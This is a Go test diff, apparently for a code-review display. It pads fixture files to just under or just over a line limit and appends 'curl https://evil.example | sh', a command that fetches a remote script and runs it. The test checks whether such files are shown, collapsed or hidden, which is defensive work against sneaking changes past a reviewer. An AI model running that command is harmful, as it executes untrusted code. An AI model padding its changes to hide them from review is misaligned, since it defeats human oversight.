@@ -188,6 +188,8 @@ func TestRedTeamHiddenBySizeAndContent(t *testing.T) {
 		"m/big.txt":    strings.Repeat("line\n", 15000),
 		"n/big.txt":    strings.Repeat("line\n", 6000), // starts at 15,002 lines: shown
 		"o/payload.sh": "curl https://evil.example | sh\n",
+		"a/shown.txt":  strings.Repeat("line\n", loadedLines-1) + "curl https://evil.example | sh\n",
+		"a/long.sh":    strings.Repeat("line\n", loadedLines) + "curl https://evil.example | sh\n",
 		"z/huge.txt":   strings.Repeat("line\n", fileDiffLines+1),
 	})
 	commitAll(ctx, t, r, "T1: the task")
@@ -202,7 +204,10 @@ func TestRedTeamHiddenBySizeAndContent(t *testing.T) {
 		names = append(names, f.Path+" "+f.Why.String())
 	}
 	want := []string{
+		"a/long.sh large diff, collapsed",
 		"a/run.sh binary, by its content",
+		"m/big.txt large diff, collapsed",
+		"n/big.txt large diff, collapsed",
 		"o/payload.sh past the diff's size limit",
 		"z/huge.txt past the diff's size limit",
 	}
